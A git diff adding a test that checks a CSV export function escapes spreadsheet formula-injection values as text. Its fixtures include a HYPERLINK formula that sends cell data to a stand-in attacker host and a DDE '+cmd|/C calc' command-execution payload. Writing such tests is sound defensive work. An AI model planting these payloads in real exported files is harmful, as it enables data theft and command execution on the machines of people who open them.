@@ -86,4 +86,21 @@ describe('orphanCsvLines', () => {
     expect(all[1]).toMatch(new RegExp(`,"n,""\\d+",\\d+,${MASKED.replace(/[[\]]/g, '\\$&')}\\r\\n$`))
     expect(await collect(orphanCsvLines(target.db, rel, keys, { batchSize: 1 }))).toEqual(all)
   })
+
+  it('writes values a spreadsheet would run as formulas as text', async () => {
+    await sql`create table csv_formula_parent (code text primary key)`.execute(target.db)
+    await sql`create table csv_formula_child (id text primary key, parent_code text)`.execute(target.db)
+    await sql`insert into csv_formula_child values
+      ('=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|/C calc!A0'),
+      ('@SUM(1,2)', '-1+1'),
+      ('-7', E'\t=1')`.execute(target.db)
+    const rel = { schema: 'public', table: 'csv_formula_child', columns: ['parent_code'], refSchema: 'public', refTable: 'csv_formula_parent', refColumns: ['code'] }
+    const lines = await collect(orphanCsvLines(target.db, rel, ['id']))
+    expect(lines).toEqual([
+      'id,parent_code\r\n',
+      '-7,\'\t=1\r\n',
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+cmd|/C calc!A0\r\n`,
+      "\"'@SUM(1,2)\",'-1+1\r\n",
+    ])
+  })
 })
